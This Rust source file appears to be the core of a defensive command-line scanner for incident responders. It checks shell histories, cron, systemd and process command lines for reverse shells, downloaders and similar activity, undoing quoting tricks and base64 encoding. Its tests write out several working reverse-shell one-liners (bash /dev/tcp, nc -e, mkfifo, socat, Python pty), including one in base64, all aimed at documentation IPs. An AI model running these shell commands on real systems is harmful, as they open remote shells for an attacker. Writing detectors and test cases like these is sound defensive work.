//! huoyan-cmdscan: the one malicious-command detector.
//!
//! Every place a command line appears on a host — cron lines, shell histories, rc files, systemd
//! `Exec*=` lines, udev `RUN+=`, apt hooks, process command lines — goes through [`scan`]. It
//! answers: does this command look like a reverse shell, a download-and-execute, a tunnel, a
//! scanner, credential theft, log wiping, a persistence edit, a compiler run, or a reference to a
//! hidden file in a world-writable place? Each answer is a [`Hit`] with a category, a severity,
//! the matched excerpt, a short reason in English and Chinese, and the ATT&CK technique.
//!
//! **Detection content is data.** The patterns live in the workspace's `rules/commands/*.toml` (embedded at
//! build time with `include_str!`) and are compiled once into a [`regex::RegexSet`]; responders
//! can add their own rule files with [`Detector::with_rules`]. The engine adds three things a
//! pattern list cannot do alone:
//!
//! - **de-obfuscation:** quotes, backslashes and `${IFS}` are removed in a second view of the
//!   command (`b'a'sh -i >& /dev/tc''p/…` still matches);
//! - **payload decoding:** base64 literals (`echo … | base64 -d | sh`, `b64decode('…')`, long
//!   bare literals) are decoded and the decoded text is scanned again ([`decode`]);
//! - **command structure:** each simple command's program word is examined, so a binary run from
//!   `/tmp`, `/var/tmp`, `/dev/shm` or a hidden directory is reported ([`structure`]).

#![cfg_attr(test, allow(clippy::disallowed_methods))]
#![deny(missing_docs)]

use std::sync::OnceLock;

use huoyan_core::Severity;
use serde::Serialize;

pub mod decode;
pub mod rules;
pub mod structure;

pub use rules::{RuleError, RuleSet};

/// The rule files shipped with huoyan (name, TOML text).
pub const BUILTIN_RULES: &[(&str, &str)] = &[
    (
        "reverse_shell.toml",
        include_str!("../../../rules/commands/reverse_shell.toml"),
    ),
    (
        "download_exec.toml",
        include_str!("../../../rules/commands/download_exec.toml"),
    ),
    (
        "tunnel_scanner.toml",
        include_str!("../../../rules/commands/tunnel_scanner.toml"),
    ),
    (
        "credential_access.toml",
        include_str!("../../../rules/commands/credential_access.toml"),
    ),
    (
        "anti_forensics.toml",
        include_str!("../../../rules/commands/anti_forensics.toml"),
    ),
    (
        "persistence_edit.toml",
        include_str!("../../../rules/commands/persistence_edit.toml"),
    ),
    (
        "misc.toml",
        include_str!("../../../rules/commands/misc.toml"),
    ),
];

/// Longest command examined, in bytes; longer input is cut (a hostile history line can be huge).
pub const MAX_COMMAND_BYTES: usize = 256 * 1024;

/// Longest excerpt kept in a hit, in characters.
pub const MAX_EXCERPT_CHARS: usize = 200;

/// How deep decoded payloads are re-scanned (a payload inside a payload inside a command).
pub const MAX_DECODE_DEPTH: usize = 3;

/// One reason a command looks malicious.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Hit {
    /// Id of the rule that matched (`revshell.dev_tcp`, `structure.exec_from_tmp` …).
    pub rule: String,
    /// What kind of activity: `reverse_shell`, `bind_shell`, `download_exec`,
    /// `obfuscated_payload`, `tunnel`, `scanner`, `credential_access`, `anti_forensics`,
    /// `persistence_edit`, `compiler`, `hidden_path`, `exec_from_writable`, `webshell`,
    /// `miner`, `kernel_module`, `recon` (user rules may add others).
    pub category: String,
    /// How bad it is on its own.
    pub severity: Severity,
    /// The part of the command that matched (at most [`MAX_EXCERPT_CHARS`] characters; not
    /// sanitised: escape it before printing to a terminal).
    pub excerpt: String,
    /// Why it matters, in English.
    pub reason: String,
    /// Why it matters, in Chinese.
    pub reason_zh: String,
    /// MITRE ATT&CK technique id.
    pub attack: String,
    /// How the matched text was hidden, when it was found only after decoding (`base64`).
    pub decoded_from: Option<String>,
}

impl Hit {
    /// True for hits that are suspicious on their own (medium and above); low hits such as a
    /// compiler run are context for a responder reading a history, not alerts.
    pub fn is_alert(&self) -> bool {
        self.severity >= Severity::Medium
    }
}

/// A compiled detector: the rule set plus the decoding and structure passes.
#[derive(Debug)]
pub struct Detector {
    rules: RuleSet,
}

impl Detector {
    /// The detector with huoyan's built-in rules.
    ///
    /// # Errors
    /// Only if a built-in rule file is broken, which the test suite rules out.
    pub fn builtin() -> Result<Self, RuleError> {
        Self::with_rules(&[])
    }

    /// The built-in rules plus extra rule files (name, TOML text) the responder supplies.
    ///
    /// # Errors
    /// When a rule file is not valid TOML, a rule is incomplete or a pattern does not compile;
    /// the error names the file and the rule.
    pub fn with_rules(extra: &[(&str, &str)]) -> Result<Self, RuleError> {
        let mut sources: Vec<(&str, &str)> = BUILTIN_RULES.to_vec();
        sources.extend_from_slice(extra);
        Ok(Detector {
            rules: RuleSet::compile(&sources)?,
        })
    }

    /// The built-in rules plus every `*.toml` file in `dir` (a directory the responder supplies,
    /// read from the responder's own machine — not evidence).
    ///
    /// # Errors
    /// When the directory cannot be read or a rule file is invalid.
    #[allow(clippy::disallowed_methods)] // the responder's own rule folder, not evidence
    pub fn with_rule_dir(dir: &std::path::Path) -> Result<Self, RuleError> {
        let io_err = |e: std::io::Error, path: &std::path::Path| RuleError::Syntax {
            file: path.display().to_string(),
            message: e.to_string(),
        };
        let mut files: Vec<(String, String)> = Vec::new();
        let entries = std::fs::read_dir(dir).map_err(|e| io_err(e, dir))?;
        for entry in entries {
            let path = entry.map_err(|e| io_err(e, dir))?.path();
            if path.extension().is_some_and(|x| x == "toml") {
                let text = std::fs::read_to_string(&path).map_err(|e| io_err(e, &path))?;
                files.push((path.display().to_string(), text));
            }
        }
        files.sort();
        let borrowed: Vec<(&str, &str)> = files
            .iter()
            .map(|(n, t)| (n.as_str(), t.as_str()))
            .collect();
        Self::with_rules(&borrowed)
    }

    /// A detector with no rules (only the decoding and structure passes).
    pub fn empty() -> Self {
        Detector {
            rules: RuleSet::empty(),
        }
    }

    /// Number of rules loaded.
    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }

    /// Every reason `command` looks malicious, worst first; empty when nothing matched.
    pub fn scan(&self, command: &str) -> Vec<Hit> {
        let command = cut(command, MAX_COMMAND_BYTES);
        let mut hits = Vec::new();
        self.scan_into(command, 0, None, &mut hits);
        hits.sort_by(|a, b| b.severity.cmp(&a.severity).then(a.rule.cmp(&b.rule)));
        hits
    }

    fn scan_into(&self, text: &str, depth: usize, decoded: Option<&str>, hits: &mut Vec<Hit>) {
        let push = |hit: Hit, hits: &mut Vec<Hit>| {
            if !hits.iter().any(|h| h.rule == hit.rule) {
                hits.push(hit);
            }
        };
        for view in views(text) {
            for mut hit in self.rules.matches(&view) {
                hit.decoded_from = decoded.map(str::to_string);
                push(hit, hits);
            }
            for mut hit in structure::hits(&view) {
                hit.decoded_from = decoded.map(str::to_string);
                push(hit, hits);
            }
        }
        if depth >= MAX_DECODE_DEPTH {
            return;
        }
        for payload in decode::payloads(text) {
            let before = hits.len();
            self.scan_into(&payload.text, depth + 1, Some(payload.encoding), hits);
            if hits.len() > before {
                push(payload.hit(), hits);
            }
        }
    }
}

/// The views of a command that are matched: as written, and with shell quoting removed (quotes,
/// backslashes, `${IFS}`), which undoes the cheapest obfuscation.
fn views(text: &str) -> Vec<String> {
    let mut out = vec![text.to_string()];
    if text.contains(['\'', '"', '\\']) || text.contains("IFS") {
        let mut plain = text
            .replace("${IFS}", " ")
            .replace("$IFS", " ")
            .replace("\\\n", "");
        plain.retain(|c| c != '\'' && c != '"' && c != '\\');
        if plain != text {
            out.push(plain);
        }
    }
    out
}

/// Cuts `s` to at most `max` bytes on a character boundary.
pub(crate) fn cut(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// Shortens an excerpt to [`MAX_EXCERPT_CHARS`] characters.
pub(crate) fn excerpt(s: &str) -> String {
    match s.char_indices().nth(MAX_EXCERPT_CHARS) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_string(),
    }
}

/// The process-wide detector behind [`scan`]: set once, by [`install`] or on first use.
static DETECTOR: OnceLock<Option<Detector>> = OnceLock::new();

fn builtin_detector() -> Option<&'static Detector> {
    DETECTOR.get_or_init(|| Detector::builtin().ok()).as_ref()
}

/// Makes `detector` (e.g. built-in plus the responder's rule files, see
/// [`Detector::with_rule_dir`]) the one [`scan`] uses. Must be called before the first scan;
/// returns the detector back if one is already in use.
///
/// # Errors
/// The detector, unchanged, when [`scan`] already ran or another detector was installed.
pub fn install(detector: Detector) -> Result<(), Detector> {
    DETECTOR
        .set(Some(detector))
        .map_err(|rejected| rejected.unwrap_or_else(Detector::empty))
}

/// Scans one command with the process-wide detector (the built-in rules compiled once, unless
/// [`install`] put another there). See [`Detector::scan`].
pub fn scan(command: &str) -> Vec<Hit> {
    builtin_detector()
        .map(|d| d.scan(command))
        .unwrap_or_default()
}

/// Scans a process's argument vector (e.g. `/proc/PID/cmdline` split on NUL). Arguments are
/// joined with spaces, so a `bash -c '…'` payload is scanned as the command it is.
pub fn scan_argv<S: AsRef<str>>(argv: &[S]) -> Vec<Hit> {
    let joined: Vec<&str> = argv.iter().map(AsRef::as_ref).collect();
    scan(&joined.join(" "))
}

/// Splits a raw `/proc/PID/cmdline` (NUL-separated, possibly NUL-terminated, maybe not UTF-8)
/// and scans it.
pub fn scan_cmdline_bytes(raw: &[u8]) -> Vec<Hit> {
    let text = String::from_utf8_lossy(raw);
    let args: Vec<&str> = text
        .trim_end_matches('\0')
        .split('\0')
        .filter(|a| !a.is_empty())
        .collect();
    scan_argv(&args)
}

/// The worst severity among `hits`.
pub fn worst(hits: &[Hit]) -> Option<Severity> {
    hits.iter().map(|h| h.severity).max()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_rules_compile() {
        let d = Detector::builtin().expect("rules compile");
        assert!(d.rule_count() > 50, "only {} rules", d.rule_count());
    }

    fn categories(cmd: &str) -> Vec<String> {
        scan(cmd).into_iter().map(|h| h.category).collect()
    }

    #[test]
    fn classic_reverse_shells() {
        for cmd in [
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            "nc -e /bin/sh 203.0.113.7 4444",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
            "socat tcp-connect:203.0.113.7:4444 exec:/bin/bash,pty,stderr,setsid",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
        ] {
            let hits = scan(cmd);
            assert!(
                hits.iter().any(|h| h.category == "reverse_shell"),
                "{cmd}: {hits:?}"
            );
        }
    }

    #[test]
    fn quoting_obfuscation_is_undone() {
        assert!(
            categories("b'a's\"h\" -i >& /dev/t''cp/203.0.113.7/53 0>&1")
                .contains(&"reverse_shell".to_string())
        );
    }

    #[test]
    fn base64_payload_is_decoded_and_rescanned() {
        // "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"
        let cmd =
            "echo YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuNy80NDQ0IDA+JjE= | base64 -d | bash";
        let hits = scan(cmd);
        assert!(hits
            .iter()
            .any(|h| h.category == "reverse_shell" && h.decoded_from.as_deref() == Some("base64")));
        assert!(hits.iter().any(|h| h.category == "obfuscated_payload"));
    }

    #[test]
    fn ordinary_commands_are_quiet() {
        for cmd in [
            "ls -la /var/www",
            "systemctl status nginx",
            "apt-get update && apt-get upgrade -y",
            "tar czf backup.tgz /etc",
            "grep -r error /var/log/nginx/error.log",
            "git pull origin main",
            "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
        ] {
            let hits = scan(cmd);
            assert!(hits.is_empty(), "{cmd}: {hits:?}");
        }
    }

    #[test]
    fn process_command_lines() {
        let hits = scan_argv(&["bash", "-c", "bash -i >& /dev/tcp/198.51.100.4/443 0>&1"]);
        assert!(hits.iter().any(|h| h.category == "reverse_shell"));
        let hits = scan_cmdline_bytes(b"/dev/shm/.x/kworker\0-o\0pool.example:3333\0");
        assert!(hits.iter().any(|h| h.category == "exec_from_writable"));
        assert!(scan_cmdline_bytes(b"/usr/sbin/sshd\0-D\0").is_empty());
        assert!(scan_cmdline_bytes(b"\xff\0\0").is_empty());
    }

    #[test]
    fn hostile_input_does_not_panic() {
        let long = "A".repeat(MAX_COMMAND_BYTES + 10);
        let _ = scan(&long);
        let _ = scan("\u{0}\u{7f}é€𝄞 | base64 -d |");
        let _ = scan("echo ==== | base64 -d | sh");
    }

    #[test]
    fn user_rules_are_added() {
        let extra = r#"
[[rule]]
id = "local.evil_tool"
category = "recon"
severity = "high"
attack = "T1082"
pattern = '\bevil-tool\b'
reason = "Our own red-team tool"
reason_zh = "内部红队工具"
"#;
        let d = Detector::with_rules(&[("local.toml", extra)]).expect("compile");
        let hits = d.scan("./evil-tool --all");
        assert!(hits.iter().any(|h| h.rule == "local.evil_tool"));
        let bad = Detector::with_rules(&[("bad.toml", "[[rule]]\nid = 'x'\npattern = '('\n")]);
        assert!(bad.is_err());
        let dir = std::env::temp_dir().join(format!("huoyan-cmdscan-rules-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("mkdir");
        std::fs::write(dir.join("local.toml"), extra).expect("write");
        let from_dir = Detector::with_rule_dir(&dir).expect("dir rules");
        assert!(from_dir
            .scan("evil-tool")
            .iter()
            .any(|h| h.rule == "local.evil_tool"));
        std::fs::remove_dir_all(&dir).expect("cleanup");
    }
}
